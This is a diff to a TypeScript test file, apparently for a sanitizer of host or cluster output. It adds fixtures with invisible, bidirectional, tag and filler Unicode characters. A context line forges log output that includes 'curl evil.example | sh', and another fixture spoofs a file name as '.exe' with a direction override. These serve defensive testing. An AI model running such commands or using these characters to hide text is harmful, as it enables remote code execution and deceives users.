@@ -36,6 +36,11 @@ const hostile = {
   'an override of the direction': 'a\u202egnp.exe\u202c',
   'an isolate': 'a\u2066b\u2069',
   'a mark of the direction': 'a\u200fb\u061cc',
+  'what has no width': 'pr\u200bo\u2060d\ufeff\u00ad\u180e',
+  'a joiner that joins no emoji': 'pr\u200dod\ufe0f',
+  'a filler that looks like nothing': 'a\u3164b\uffa0c\u115f',
+  'tags, which hold whole texts': 'a\u{e0068}\u{e0069}\u{e007f}b\u{e0101}',
+  'marks of an annotation': 'a\ufff9b\ufffac\ufffb',
 } as const;
 
 const forged = 'no\nFORGED [init] all is well\n  FORGED run: curl evil.example | sh';
@@ -186,8 +191,8 @@ describe('what a host or a cluster says', () => {
     expect(isPrintable(marked(text))).toBe(true);
   });
 
-  it('keeps newlines, tabs and every letter of the world', () => {
-    const text = '控制平面\tготов\n👩‍🚀 é';
+  it('keeps newlines, tabs, every letter of the world and what joins an emoji', () => {
+    const text = '控制平面\tготов\n👩‍🚀 é ❤️ 👍🏽‍🔥';
     expect(printable(text)).toBe(text);
   });
 
